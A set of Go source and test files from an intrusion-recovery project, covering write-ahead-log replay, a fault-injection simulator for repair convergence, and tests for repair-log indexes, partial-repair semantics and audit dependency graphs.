func Replay(dir string, fromSeq uint64, fn func(Entry) error) (lastSeq uint64, torn bool, err error) {
	names, err := Segments(dir)
	if err != nil {
		if os.IsNotExist(err) {
			return 0, false, nil
		}
		return 0, false, err
	}
	var prev uint64
	if len(names) > 0 {
		// Checkpoint truncation may have removed the log prefix; continuity
		// starts at the first remaining segment's named first-seq.
		first, _ := segFirstSeq(names[0])
		prev = first - 1
	}
	for i, name := range names {
		final := i == len(names)-1
		path := filepath.Join(dir, name)
		data, err := os.ReadFile(path)
		if err != nil {
			return prev, torn, err
		}
		if len(data) < headerSize {
			if final {
				return prev, true, nil
			}
			return prev, false, fmt.Errorf("%w: segment %s: missing header", ErrCorrupt, name)
		}
		if binary.BigEndian.Uint32(data[0:4]) != segMagic {
			return prev, false, fmt.Errorf("%w: segment %s: bad magic", ErrCorrupt, name)
		}
		if v := binary.BigEndian.Uint32(data[4:8]); v != segVersion {
			return prev, false, fmt.Errorf("%w: segment %s: unsupported version %d", ErrCorrupt, name, v)
		}
		off := int64(headerSize)
		for off < int64(len(data)) {
			if off+frameSize > int64(len(data)) {
				if final {
					return prev, true, nil
				}
				return prev, false, fmt.Errorf("%w: segment %s: torn frame in non-final segment", ErrCorrupt, name)
			}
			ln := binary.BigEndian.Uint32(data[off : off+4])
			crc := binary.BigEndian.Uint32(data[off+4 : off+8])
			if ln == 0 || ln > 64<<20 {
				return prev, false, fmt.Errorf("%w: segment %s: absurd record length %d at offset %d", ErrCorrupt, name, ln, off)
			}
			if off+frameSize+int64(ln) > int64(len(data)) {
				if final {
					return prev, true, nil
				}
				return prev, false, fmt.Errorf("%w: segment %s: torn payload in non-final segment", ErrCorrupt, name)
			}
			payload := data[off+frameSize : off+frameSize+int64(ln)]
			if crc32.ChecksumIEEE(payload) != crc {
				return prev, false, fmt.Errorf("%w: segment %s: CRC mismatch at offset %d", ErrCorrupt, name, off)
			}
			var e Entry
			if err := json.Unmarshal(payload, &e); err != nil {
				return prev, false, fmt.Errorf("%w: segment %s: undecodable entry at offset %d: %v", ErrCorrupt, name, off, err)
			}
			if e.Seq != prev+1 {
				return prev, false, fmt.Errorf("%w: segment %s: seq %d follows %d", ErrCorrupt, name, e.Seq, prev)
			}
			prev = e.Seq
			if e.Seq > fromSeq && fn != nil {
				if err := fn(e); err != nil {
					return prev, false, err
				}
			}
			off += frameSize + int64(ln)
		}
	}
	return prev, torn, nil
}

// Truncate removes segments wholly covered by a checkpoint at upToSeq: a
// segment is deleted only when a later segment exists whose first sequence
// is ≤ upToSeq+1 (so replay from upToSeq+1 still finds every needed entry).
// The active (latest) segment is never deleted. Returns removed file names.
func Truncate(dir string, upToSeq uint64) ([]string, error) {
	names, err := Segments(dir)
	if err != nil {
		return nil, err
	}
	var removed []string
	for i := 0; i+1 < len(names); i++ {
		next, _ := segFirstSeq(names[i+1])
		if next <= upToSeq+1 {
			if err := os.Remove(filepath.Join(dir, names[i])); err != nil {
				return removed, err
			}
			removed = append(removed, names[i])
		} else {
			break
		}
	}
	if len(removed) > 0 {
		// Make the removals durable together: a power loss that resurrects
		// only some of a run of deleted segments would leave a sequence gap
		// that replay reports as corruption.
		if err := syncDir(dir); err != nil {
			return removed, err
		}
	}
	return removed, nil
}
