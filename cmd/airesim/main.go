// Command airesim sweeps the deterministic fault-injection simulator over
// a seed range: for each seed it generates a randomized multi-service
// workload, interleaves Cancel/Replace repairs with injected repair-plane
// faults (drops, lost responses, duplicates, delays/reorders, partitions,
// crash-restarts), and checks the paper's convergence oracle — the faulted
// world must quiesce to exactly the state of a fault-free reference
// re-execution with the attacks removed.
//
// The stale and dupcreate profiles target the exactly-once session layer
// (internal/deliver): repair-of-repair workloads under multi-tick delays,
// and create-bearing workloads under lost responses. Run them with
// -nodedup to watch the underlying hazards fire without the dedup inbox.
//
// With -sched, repair delivery runs on the real background pump under the
// deterministic scheduler (internal/dsched): pump loops, delivery workers,
// and the workload interleave as cooperative tasks picked by a seeded rng,
// so concurrent-pump schedules are explored seed-reproducibly. A failing
// seed prints its scheduler step count; replaying the seed replays the
// schedule verbatim.
//
// The crash and fsynclag profiles are the crash-durability gate: their
// services run on an on-disk write-ahead log (internal/wal) and every crash
// discards in-memory state, recovering from checkpoint + WAL replay. Under
// crash (fsync=every + power loss) zero committed state may be lost; run
// with -fsync none to watch the unsynced tail genuinely disappear.
//
// CI runs a short fixed-seed matrix per fault profile (the `sim` job
// serial, the `sched` job under -sched, the `durability` job over the
// crash/fsynclag profiles); longer local sweeps:
//
//	make sim SIM_PROFILE=mixed SIM_SEEDS=1:500
//	make sim-sched SIM_PROFILE=mixed SIM_SEEDS=1:500
//	go run ./cmd/airesim -profile crash -seeds 17 -v   # replay one failure
//	go run ./cmd/airesim -profile crash -seeds 1:20 -fsync none
//	go run ./cmd/airesim -profile stale -seeds 1:20 -nodedup
//	go run ./cmd/airesim -sched -profile mixed -seeds 7 -v
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"

	"aire/internal/harness"
)

func main() {
	var (
		profile   = flag.String("profile", "mixed", "fault profile: "+strings.Join(harness.SimProfileNames(), ", "))
		seeds     = flag.String("seeds", "1:20", `seeds to run: "lo:hi" (inclusive) or "3,7,19"`)
		ops       = flag.Int("ops", 0, "workload steps per run (0 = profile default)")
		services  = flag.Int("services", 0, "number of services (0 = profile default)")
		topology  = flag.String("topology", "", `"chain" or "fanout" (empty = profile default)`)
		repairs   = flag.Int("repairs", 0, "attacked puts per run (0 = profile default)")
		sched     = flag.Bool("sched", false, "run repair delivery on the background pump under the deterministic scheduler (internal/dsched): seeded task interleavings instead of the serial Flush loop")
		shards    = flag.Int("shards", 0, "shard every faulted service N ways behind a key-hash router (per-shard store/log/pump/WAL); the convergence oracle is shard-count-invariant (0/1 = unsharded)")
		fsync     = flag.String("fsync", "", `override the WAL fsync policy of WAL-backed profiles (crash, fsynclag): "every", "interval", "none" (empty = profile default; "none" demonstrates tail loss)`)
		nodedup   = flag.Bool("nodedup", false, "disable the peer-side exactly-once dedup inbox (demonstrates the stale/dupcreate hazards)")
		vectors   = flag.Bool("vectors", false, "force the anti-entropy version-vector layer ON regardless of profile default")
		novectors = flag.Bool("novectors", false, "force the anti-entropy version-vector layer OFF (demonstrates the lostwave stall: a silently lost delivery outlives every backoff retry)")
		inboxcap  = flag.Int("inboxcap", 0, "per-origin dedup-inbox entry cap (0 = core default); tiny caps prove exactly-once rides acked-prefix compaction, not LRU headroom")
		expectF   = flag.Bool("expect-fail", false, "invert the verdict: exit 0 only if at least one seed FAILS the oracle (teeth checks: proves a disabled defense genuinely loses its property)")
		verbose   = flag.Bool("v", false, "print the fault schedule of failing seeds")
		listProfs = flag.Bool("profiles", false, "list fault profiles and exit")
	)
	flag.Parse()

	if *listProfs {
		for _, name := range harness.SimProfileNames() {
			fmt.Println(name)
		}
		return
	}

	seedList, err := parseSeeds(*seeds)
	if err != nil {
		fmt.Fprintln(os.Stderr, "airesim:", err)
		os.Exit(2)
	}
	base, err := harness.SimProfileConfig(*profile)
	if err != nil {
		fmt.Fprintln(os.Stderr, "airesim:", err)
		os.Exit(2)
	}
	if *ops > 0 {
		base.Ops = *ops
	}
	if *services > 0 {
		base.Services = *services
	}
	if *topology != "" {
		base.Topology = *topology
	}
	if *repairs > 0 {
		base.Repairs = *repairs
	}
	base.DisableDedup = *nodedup
	base.ScheduledPump = *sched
	base.Shards = *shards
	if *vectors && *novectors {
		fmt.Fprintln(os.Stderr, "airesim: -vectors and -novectors are mutually exclusive")
		os.Exit(2)
	}
	if *vectors {
		base.VersionVectors = true
	}
	if *novectors {
		base.VersionVectors = false
	}
	if *inboxcap > 0 {
		base.InboxCap = *inboxcap
	}
	if *fsync != "" {
		if !base.WAL {
			fmt.Fprintf(os.Stderr, "airesim: -fsync only applies to WAL-backed profiles (crash, fsynclag); %s is not\n", *profile)
			os.Exit(2)
		}
		base.WALFsync = *fsync
	}

	failed := 0
	for _, seed := range seedList {
		cfg := base
		cfg.Seed = seed
		res, err := harness.RunSim(cfg)
		if err != nil {
			fmt.Printf("seed %-6d ERROR  %v\n", seed, err)
			failed++
			continue
		}
		steps := ""
		if *sched {
			steps = fmt.Sprintf(" steps=%d", res.SchedSteps)
		}
		if res.Passed {
			fmt.Printf("seed %-6d PASS   repairs=%d crashes=%d partitions=%d rounds=%d%s faults=%s\n",
				seed, res.RepairCount, res.CrashCount, res.PartitionCount, res.Rounds, steps, faultSummary(res.FaultCounts))
			continue
		}
		failed++
		// A failing seed names everything a replay needs: the seed itself
		// and (under -sched) the scheduler step count of the found schedule.
		fmt.Printf("seed %-6d FAIL   repairs=%d crashes=%d partitions=%d rounds=%d%s faults=%s\n",
			seed, res.RepairCount, res.CrashCount, res.PartitionCount, res.Rounds, steps, faultSummary(res.FaultCounts))
		for _, f := range res.Failures {
			fmt.Printf("             %s\n", f)
		}
		if *verbose {
			for _, line := range res.Trace {
				fmt.Printf("             | %s\n", line)
			}
			for _, line := range res.SchedTrace {
				fmt.Printf("             > %s\n", line)
			}
		}
	}
	schedFlag := ""
	if *sched {
		schedFlag = " -sched"
	}
	if *fsync != "" {
		schedFlag += " -fsync " + *fsync
	}
	if *shards > 1 {
		schedFlag += fmt.Sprintf(" -shards %d", *shards)
	}
	if *expectF {
		// Teeth mode: the sweep exists to prove a hazard fires. All-pass
		// means the disabled defense was not actually load-bearing.
		if failed == 0 {
			fmt.Printf("airesim: expected failures but all %d seeds passed (profile %s%s) — the hazard has lost its teeth\n", len(seedList), *profile, schedFlag)
			os.Exit(1)
		}
		fmt.Printf("airesim: %d/%d seeds failed as expected (profile %s%s)\n", failed, len(seedList), *profile, schedFlag)
		return
	}
	if failed > 0 {
		fmt.Printf("airesim: %d/%d seeds failed (profile %s); rerun one with%s -seeds <seed> -v\n", failed, len(seedList), *profile, schedFlag)
		os.Exit(1)
	}
	fmt.Printf("airesim: %d seeds passed (profile %s%s)\n", len(seedList), *profile, schedFlag)
}

// parseSeeds accepts "lo:hi" (inclusive range) or a comma-separated list.
func parseSeeds(s string) ([]int64, error) {
	s = strings.TrimSpace(s)
	if lo, hi, ok := strings.Cut(s, ":"); ok {
		l, err1 := strconv.ParseInt(strings.TrimSpace(lo), 10, 64)
		h, err2 := strconv.ParseInt(strings.TrimSpace(hi), 10, 64)
		if err1 != nil || err2 != nil || h < l {
			return nil, fmt.Errorf("bad seed range %q (want lo:hi with hi >= lo)", s)
		}
		out := make([]int64, 0, h-l+1)
		for v := l; v <= h; v++ {
			out = append(out, v)
		}
		return out, nil
	}
	var out []int64
	for _, part := range strings.Split(s, ",") {
		v, err := strconv.ParseInt(strings.TrimSpace(part), 10, 64)
		if err != nil {
			return nil, fmt.Errorf("bad seed %q", part)
		}
		out = append(out, v)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out, nil
}

func faultSummary(counts map[string]int) string {
	if len(counts) == 0 {
		return "none"
	}
	keys := make([]string, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, 0, len(keys))
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%s:%d", k, counts[k]))
	}
	return strings.Join(parts, " ")
}
