package repairlog

import (
	"fmt"
	"testing"

	"aire/internal/vdb"
	"aire/internal/wire"
)

// depRec builds a record with one read, one scan, one write, and one
// Aire-identified outgoing call.
func depRec(id string, ts int64, key, respID, remoteID string) *Record {
	r := rec(id, ts)
	k := vdb.Key{Model: "kv", ID: key}
	r.Reads = []ReadDep{{Key: k, TS: ts, Hash: 1}}
	r.Scans = []ScanDep{{Model: "kv", Hash: 2}}
	r.Writes = []WriteDep{{Key: k, TS: ts}}
	r.Calls = []Call{{Target: "peer", RespID: respID, RemoteReqID: remoteID, Req: wire.NewRequest("POST", "/p")}}
	return r
}

func refIDs(refs []Ref) []string {
	out := make([]string, len(refs))
	for i, r := range refs {
		out[i] = r.Rec.ID
	}
	return out
}

func TestDepIndexMaintainedAcrossAppendUpdateGC(t *testing.T) {
	l := New(false)
	for i := 1; i <= 4; i++ {
		key := "a"
		if i%2 == 0 {
			key = "b"
		}
		if err := l.Append(depRec(fmt.Sprintf("r%d", i), int64(i*10), key, fmt.Sprintf("resp-%d", i), fmt.Sprintf("rem-%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	ka, kb := vdb.Key{Model: "kv", ID: "a"}, vdb.Key{Model: "kv", ID: "b"}

	if got := refIDs(l.ReadersOf(ka, 0, 0)); len(got) != 2 || got[0] != "r1" || got[1] != "r3" {
		t.Fatalf("ReadersOf(a) = %v", got)
	}
	if got := refIDs(l.ReadersOf(ka, 15, 0)); len(got) != 1 || got[0] != "r3" {
		t.Fatalf("ReadersOf(a, after ts 15) = %v", got)
	}
	if got := refIDs(l.WritersOf(kb, 0, 0)); len(got) != 2 || got[0] != "r2" || got[1] != "r4" {
		t.Fatalf("WritersOf(b) = %v", got)
	}
	if got := refIDs(l.ScannersOf("kv", 25, 0)); len(got) != 2 || got[0] != "r3" {
		t.Fatalf("ScannersOf(kv, after ts 25) = %v", got)
	}
	if got := l.TotalModelOps(); got != 12 {
		t.Fatalf("TotalModelOps = %d, want 12", got)
	}

	// Update rewrites r3's dependencies wholesale: the subtle Update-resync
	// path — a repair callback freely rewrites Calls[].RespID and the dep
	// slices, and the indexes must follow.
	// Strict-after semantics on equal timestamps: the repair engine must
	// not be handed a same-TS record that precedes the mutating record on
	// the timeline (it already passed its dependency gate).
	tie := depRec("tie", 10, "a", "resp-tie", "rem-tie") // same TS as r1, later seq
	if err := l.Append(tie); err != nil {
		t.Fatal(err)
	}
	r1ref, _ := l.RefOf("r1")
	if got := refIDs(l.ReadersOf(ka, r1ref.TS, r1ref.Seq)); len(got) != 2 || got[0] != "tie" || got[1] != "r3" {
		t.Fatalf("ReadersOf(a, after r1) = %v, want [tie r3]", got)
	}
	tieRef, _ := l.RefOf("tie")
	if got := refIDs(l.ReadersOf(ka, tieRef.TS, tieRef.Seq)); len(got) != 1 || got[0] != "r3" {
		t.Fatalf("ReadersOf(a, after tie) = %v, want [r3]", got)
	}
	if n := l.GC(10); n != 0 { // drop nothing, keep the tie record for below
		t.Fatalf("GC(10) removed %d", n)
	}
	if err := l.Update("tie", func(r *Record) { r.Reads, r.Scans, r.Writes, r.Calls = nil, nil, nil, nil }); err != nil {
		t.Fatal(err)
	}
	if got := refIDs(l.ReadersOf(ka, 0, 0)); len(got) != 2 {
		t.Fatalf("after clearing tie, ReadersOf(a) = %v", got)
	}

	if err := l.Update("r3", func(r *Record) {
		r.Reads = []ReadDep{{Key: kb, TS: 30, Hash: 9}}
		r.Scans = nil
		r.Writes = nil
		r.Calls = []Call{{Target: "peer", RespID: "resp-3b", RemoteReqID: "rem-3b"}}
	}); err != nil {
		t.Fatal(err)
	}
	if got := refIDs(l.ReadersOf(ka, 0, 0)); len(got) != 1 || got[0] != "r1" {
		t.Fatalf("after update, ReadersOf(a) = %v", got)
	}
	if got := refIDs(l.ReadersOf(kb, 0, 0)); len(got) != 3 {
		t.Fatalf("after update, ReadersOf(b) = %v", got)
	}
	if _, _, ok := l.FindByCallRespID("resp-3"); ok {
		t.Fatal("stale RespID resp-3 still indexed after Update rewrote it")
	}
	if r, i, ok := l.FindByCallRespID("resp-3b"); !ok || r.ID != "r3" || i != 0 {
		t.Fatalf("FindByCallRespID(resp-3b) = %v %d %v", r, i, ok)
	}
	if before, after := l.NeighborCalls("peer", 35); before != "rem-3b" || after != "rem-4" {
		t.Fatalf("NeighborCalls(peer, 35) = %q,%q", before, after)
	}
	if got := l.TotalModelOps(); got != 10 {
		t.Fatalf("after update, TotalModelOps = %d, want 10", got)
	}

	// In-place mutation + Resync: the repair engine's re-execution path.
	r3, _ := l.Get("r3")
	r3.Reads = nil
	r3.Calls = nil
	if err := l.Resync("r3"); err != nil {
		t.Fatal(err)
	}
	if got := refIDs(l.ReadersOf(kb, 0, 0)); len(got) != 2 {
		t.Fatalf("after resync, ReadersOf(b) = %v", got)
	}
	if _, _, ok := l.FindByCallRespID("resp-3b"); ok {
		t.Fatal("resp-3b still indexed after in-place clear + Resync")
	}

	// GC drops r1/r2/tie and their index entries.
	if n := l.GC(30); n != 3 {
		t.Fatalf("GC removed %d", n)
	}
	if got := refIDs(l.ReadersOf(ka, 0, 0)); len(got) != 0 {
		t.Fatalf("after GC, ReadersOf(a) = %v", got)
	}
	if _, _, ok := l.FindByCallRespID("resp-1"); ok {
		t.Fatal("GC'd record's RespID still indexed")
	}
	if before, after := l.NeighborCalls("peer", 0); before != "" || after != "rem-4" {
		t.Fatalf("after GC, NeighborCalls(peer, 0) = %q,%q", before, after)
	}
	if got := l.TotalModelOps(); got != 3 {
		t.Fatalf("after GC, TotalModelOps = %d, want 3", got)
	}
}

// TestNeighborCallsMatchesLinearOnTies pins the indexed NeighborCalls to
// the linear reference when records share a timestamp (repair can place a
// created request at an occupied midpoint) and when a record makes several
// calls to one target.
func TestNeighborCallsMatchesLinearOnTies(t *testing.T) {
	l := New(false)
	r1 := rec("r1", 10)
	r1.Calls = []Call{
		{Target: "b", RemoteReqID: "b-1"},
		{Target: "b", RemoteReqID: "b-2"},
	}
	l.Append(r1)
	r2 := rec("r2", 10) // same TS: ordered after r1 by insertion
	r2.Calls = []Call{{Target: "b", RemoteReqID: "b-3"}}
	l.Append(r2)
	r3 := rec("r3", 20)
	r3.Calls = []Call{{Target: "b", RemoteReqID: "b-4"}}
	l.Append(r3)

	for _, ts := range []int64{0, 5, 10, 11, 15, 20, 25} {
		gb, ga := l.NeighborCalls("b", ts)
		wb, wa := l.NeighborCallsLinear("b", ts)
		if gb != wb || ga != wa {
			t.Fatalf("NeighborCalls(b, %d) = %q,%q; linear reference %q,%q", ts, gb, ga, wb, wa)
		}
	}
}

// TestIndexBytesAccounting: the index memory estimate is positive once
// dependencies are indexed, grows with the indexed population, and shrinks
// when GC unindexes records — the coherence property that makes it a
// usable storage-overhead metric (ROADMAP: "index memory is unaccounted").
func TestIndexBytesAccounting(t *testing.T) {
	l := New(false)
	if got := l.IndexBytes(); got != 0 {
		t.Fatalf("empty log IndexBytes = %d, want 0", got)
	}
	var sizes []int64
	for i := 1; i <= 20; i++ {
		if err := l.Append(depRec(fmt.Sprintf("r%d", i), int64(i*10), fmt.Sprintf("k%d", i), fmt.Sprintf("resp-%d", i), fmt.Sprintf("rem-%d", i))); err != nil {
			t.Fatal(err)
		}
		sizes = append(sizes, l.IndexBytes())
	}
	for i := 1; i < len(sizes); i++ {
		if sizes[i] <= sizes[i-1] {
			t.Fatalf("IndexBytes did not grow on append %d: %v", i+1, sizes)
		}
	}
	full := l.IndexBytes()
	l.GC(105) // drops the first ten records
	if after := l.IndexBytes(); after >= full || after <= 0 {
		t.Fatalf("IndexBytes after GC = %d (was %d): want smaller but positive", after, full)
	}
}
