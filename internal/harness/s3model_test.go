package harness

import (
	"testing"

	"aire/internal/core"
	"aire/internal/vdb"
	"aire/internal/wire"
)

// TestFigure2S3Model reproduces the partially-repaired-state contract of §5
// (Figure 2): object X holds a, the attacker writes b, client A observes b;
// after S3 deletes the attacker's put, A's next read returns a — a state a
// concurrent repair client could have produced — and A's *first* read is
// later corrected by replace_response.
func TestFigure2S3Model(t *testing.T) {
	tb := NewTestbed()
	s3 := tb.Add(&s3App{name: "s3"}, core.DefaultConfig())
	client := tb.Add(&s3Client{name: "clientA", upstream: "s3"}, core.DefaultConfig())

	// t0: X = a. t1: attacker writes b.
	tb.MustCall("s3", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "a"))
	attack := tb.MustCall("s3", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "b"))

	// t2: client A reads X and sees b.
	op2 := tb.MustCall("clientA", wire.NewRequest("POST", "/observe").WithForm("key", "x"))
	if string(op2.Body) != "b" {
		t.Fatalf("op2 observed %q, want b", op2.Body)
	}

	// Between t2 and t3: S3 deletes the attacker's put (local repair only —
	// no propagation yet, modeling the window of partial repair).
	if _, err := s3.ApplyLocal(cancelAction(attack.Header[wire.HdrRequestID])); err != nil {
		t.Fatal(err)
	}

	// t3: client A reads again and sees a — valid under the concurrent
	// repair-client model even though A has not yet received any repair.
	op3 := tb.MustCall("clientA", wire.NewRequest("POST", "/observe").WithForm("key", "x"))
	if string(op3.Body) != "a" {
		t.Fatalf("op3 observed %q, want a", op3.Body)
	}

	// A's first observation is still the stale b: partially repaired state.
	obs2, ok := client.Svc.Store.Get(vdb.Key{Model: "obs", ID: firstObsID(client)})
	if !ok || obs2.Fields["val"] != "b" {
		t.Fatalf("pre-propagation eager check failed: %+v %v", obs2, ok)
	}

	// Eventually S3's replace_response reaches A and corrects the logged
	// response — and A's local state that depended on it.
	tb.Settle(10)
	obs2, ok = client.Svc.Store.Get(vdb.Key{Model: "obs", ID: firstObsID(client)})
	if !ok || obs2.Fields["val"] != "a" {
		t.Fatalf("after replace_response first observation = %+v, want a", obs2)
	}
}

// firstObsID returns the ID of the first observation object created by the
// client's first /observe request.
func firstObsID(client *core.Controller) string {
	for _, r := range client.Svc.Log.All() {
		if r.Req.Path == "/observe" {
			return r.ID + ".0"
		}
	}
	return ""
}

func TestAPISurveyShape(t *testing.T) {
	// Table 3's two claims: every surveyed service offers simple CRUD, and
	// exactly half offer a versioning API.
	versioned := 0
	for _, e := range APISurvey {
		if !e.SimpleCRUD {
			t.Errorf("%s should offer simple CRUD", e.Service)
		}
		if e.Versioned {
			versioned++
		}
	}
	if len(APISurvey) != 10 || versioned != 5 {
		t.Fatalf("survey = %d services, %d versioned; want 10 and 5", len(APISurvey), versioned)
	}
	if FormatAPISurvey() == "" {
		t.Fatal("empty survey rendering")
	}
}
