package vdb

import "fmt"

// Change is one store mutation, emitted to the change sink at the moment it
// is applied (under the store lock). The WAL layer groups changes into
// per-commit change sets; ApplyChange replays them during recovery.
type Change struct {
	// Kind is "put" (a version written, including tombstones and immutable
	// versions), "rollback", or "gc".
	Kind string `json:"kind"`
	// Key names the object for put/rollback.
	Key Key `json:"key,omitempty"`
	// Version is the written version for put.
	Version *Version `json:"version,omitempty"`
	// TS is the rollback point for rollback, or the horizon for gc.
	TS int64 `json:"ts,omitempty"`
}

// SetChangeSink installs fn to observe every mutation. fn runs with the
// store lock held and must not call back into the store. Pass nil to detach.
func (s *Store) SetChangeSink(fn func(Change)) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.sink = fn
}

// emitLocked forwards a change to the sink, if attached. Caller holds mu.
func (s *Store) emitLocked(ch Change) {
	if s.sink != nil {
		s.sink(ch)
	}
}

func (s *Store) emitPutLocked(k Key, nv Version) {
	if s.sink == nil {
		return
	}
	cp := nv.clone()
	s.sink(Change{Kind: "put", Key: k, Version: &cp})
}

// ApplyChange replays one logged change during recovery. It never emits to
// the sink, and it is idempotent: recovery may replay entries whose effects
// a checkpoint snapshot already contains (the checkpoint sequence is read
// before the snapshot is captured), so re-applying must be harmless.
func (s *Store) ApplyChange(ch Change) error {
	switch ch.Kind {
	case "put":
		if ch.Version == nil {
			return fmt.Errorf("vdb: put change without version")
		}
		return s.applyPut(ch.Key, *ch.Version)
	case "rollback":
		s.mu.Lock()
		defer s.mu.Unlock()
		s.rollbackLocked(ch.Key, ch.TS)
		return nil
	case "gc":
		s.mu.Lock()
		defer s.mu.Unlock()
		s.gcLocked(ch.TS)
		return nil
	}
	return fmt.Errorf("vdb: unknown change kind %q", ch.Kind)
}

// applyPut inserts a replayed version. WAL order equals original mutation
// order, so a version older than the object's newest can only mean the
// checkpoint already contains it — treated as a no-op rather than the
// "write into the past" error live puts get.
func (s *Store) applyPut(k Key, v Version) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	v.Fields = copyFields(v.Fields)
	v.hash = 0
	v.hash = v.Hash()
	vs := s.objects[k]
	if len(vs) > 0 {
		last := vs[len(vs)-1]
		if last.Immutable {
			if v.Immutable && last.Hash() == v.Hash() {
				return nil // already applied
			}
			return fmt.Errorf("vdb: replay would overwrite immutable object %v", k)
		}
		if v.TS < last.TS {
			return nil // already reflected in the checkpoint snapshot
		}
		if v.TS == last.TS {
			if last.ReqID != v.ReqID {
				return fmt.Errorf("vdb: replay conflict on %v at ts %d: %s vs %s", k, v.TS, last.ReqID, v.ReqID)
			}
			oldContrib := liveContribLocked(k, vs)
			vs[len(vs)-1] = v
			s.versionBytes += approxSize(k, v.Fields)
			s.finishPutLocked(k, v, oldContrib)
			return nil
		}
	}
	oldContrib := liveContribLocked(k, vs)
	s.objects[k] = append(vs, v)
	s.versionBytes += approxSize(k, v.Fields)
	if v.Immutable {
		s.indexInsertLocked(k)
		idx := s.model(k.Model)
		idx.curFP += scanContrib(k.ID, v.Hash())
		if v.TS > idx.lastTS {
			idx.lastTS = v.TS
		}
		return nil
	}
	s.finishPutLocked(k, v, oldContrib)
	return nil
}
