package audit

import (
	"strings"
	"testing"

	"aire/internal/repairlog"
	"aire/internal/vdb"
	"aire/internal/wire"
)

func key(id string) vdb.Key { return vdb.Key{Model: "kv", ID: id} }

func rec(id string, ts int64) *repairlog.Record {
	return &repairlog.Record{ID: id, TS: ts, Req: wire.NewRequest("POST", "/op"), Resp: wire.NewResponse(200, "ok")}
}

// buildLog constructs: w1 writes x; r1 reads x; w2 writes y; s1 scans kv;
// w1 also called service b.
func buildLog(t *testing.T) *repairlog.Log {
	t.Helper()
	l := repairlog.New(false)

	w1 := rec("w1", 10)
	w1.Writes = []repairlog.WriteDep{{Key: key("x"), TS: 10}}
	w1.Calls = []repairlog.Call{{Target: "b", RemoteReqID: "b-req-9"}}

	r1 := rec("r1", 20)
	r1.Reads = []repairlog.ReadDep{{Key: key("x"), TS: 10, Hash: 1}}

	w2 := rec("w2", 30)
	w2.Writes = []repairlog.WriteDep{{Key: key("y"), TS: 30}}

	s1 := rec("s1", 40)
	s1.Scans = []repairlog.ScanDep{{Model: "kv", Hash: 2}}

	for _, r := range []*repairlog.Record{w1, r1, w2, s1} {
		if err := l.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	return l
}

func TestDataEdges(t *testing.T) {
	g := Build(buildLog(t))
	found := false
	for _, e := range g.EdgesFrom("w1") {
		if e.To == "r1" && e.Kind == EdgeData && e.Via == "kv/x" {
			found = true
		}
	}
	if !found {
		t.Fatalf("missing w1->r1 data edge: %+v", g.Edges)
	}
}

func TestScanEdges(t *testing.T) {
	g := Build(buildLog(t))
	var fromW1, fromW2 bool
	for _, e := range g.Edges {
		if e.Kind == EdgeScan && e.To == "s1" {
			switch e.From {
			case "w1":
				fromW1 = true
			case "w2":
				fromW2 = true
			}
		}
	}
	if !fromW1 || !fromW2 {
		t.Fatalf("scan must depend on all prior writers: w1=%v w2=%v", fromW1, fromW2)
	}
}

func TestCallEdges(t *testing.T) {
	g := Build(buildLog(t))
	found := false
	for _, e := range g.EdgesFrom("w1") {
		if e.Kind == EdgeCall && e.To == "b/b-req-9" {
			found = true
		}
	}
	if !found {
		t.Fatal("missing call edge")
	}
}

func TestDescendants(t *testing.T) {
	g := Build(buildLog(t))
	d := g.Descendants("w1")
	want := map[string]bool{"r1": true, "s1": true, "b/b-req-9": true}
	if len(d) != len(want) {
		t.Fatalf("descendants(w1) = %v", d)
	}
	for _, id := range d {
		if !want[id] {
			t.Fatalf("unexpected descendant %s", id)
		}
	}
	// w2 influences only the scan.
	d2 := g.Descendants("w2")
	if len(d2) != 1 || d2[0] != "s1" {
		t.Fatalf("descendants(w2) = %v", d2)
	}
}

func TestAncestors(t *testing.T) {
	g := Build(buildLog(t))
	a := g.Ancestors("s1")
	if len(a) != 2 { // w1 and w2
		t.Fatalf("ancestors(s1) = %v", a)
	}
	if got := g.Ancestors("w1"); len(got) != 0 {
		t.Fatalf("ancestors(w1) = %v, want none", got)
	}
}

func TestSkippedRequestsExcluded(t *testing.T) {
	l := buildLog(t)
	if err := l.Update("w1", func(r *repairlog.Record) { r.Skipped = true }); err != nil {
		t.Fatal(err)
	}
	g := Build(l)
	if len(g.EdgesFrom("w1")) != 0 {
		t.Fatal("cancelled request should contribute no edges")
	}
}

func TestDOT(t *testing.T) {
	g := Build(buildLog(t))
	dot := g.DOT(map[string]bool{"w1": true})
	for _, want := range []string{"digraph aire_deps", `"w1" -> "r1"`, "fillcolor", "style=dashed"} {
		if !strings.Contains(dot, want) {
			t.Fatalf("DOT output missing %q:\n%s", want, dot)
		}
	}
}

func TestReadMissProducesNoEdge(t *testing.T) {
	l := repairlog.New(false)
	w := rec("w1", 10)
	w.Writes = []repairlog.WriteDep{{Key: key("x"), TS: 10}}
	r := rec("r1", 20)
	r.Reads = []repairlog.ReadDep{{Key: key("z"), TS: 0, Hash: 0}} // miss
	l.Append(w)
	l.Append(r)
	g := Build(l)
	if len(g.Descendants("w1")) != 0 {
		t.Fatal("read miss must not create a dependency")
	}
}
