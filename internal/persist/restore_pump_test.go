package persist_test

import (
	"context"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/simnet"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// repairCounter wraps a service's handler and counts the repair-plane
// deliveries that actually reach it.
type repairCounter struct {
	inner transport.Handler

	mu    sync.Mutex
	calls int
}

func (rc *repairCounter) HandleWire(from string, req wire.Request) wire.Response {
	if req.Path == "/aire/repair" {
		rc.mu.Lock()
		rc.calls++
		rc.mu.Unlock()
	}
	return rc.inner.HandleWire(from, req)
}

func (rc *repairCounter) count() int {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return rc.calls
}

// TestRestoreResumesPumpExactlyOnce is the crash-restart half of §3.2's
// durability story, as the simulator exercises it: a controller is
// snapshotted with a non-empty outgoing queue while its peer is mid-backoff,
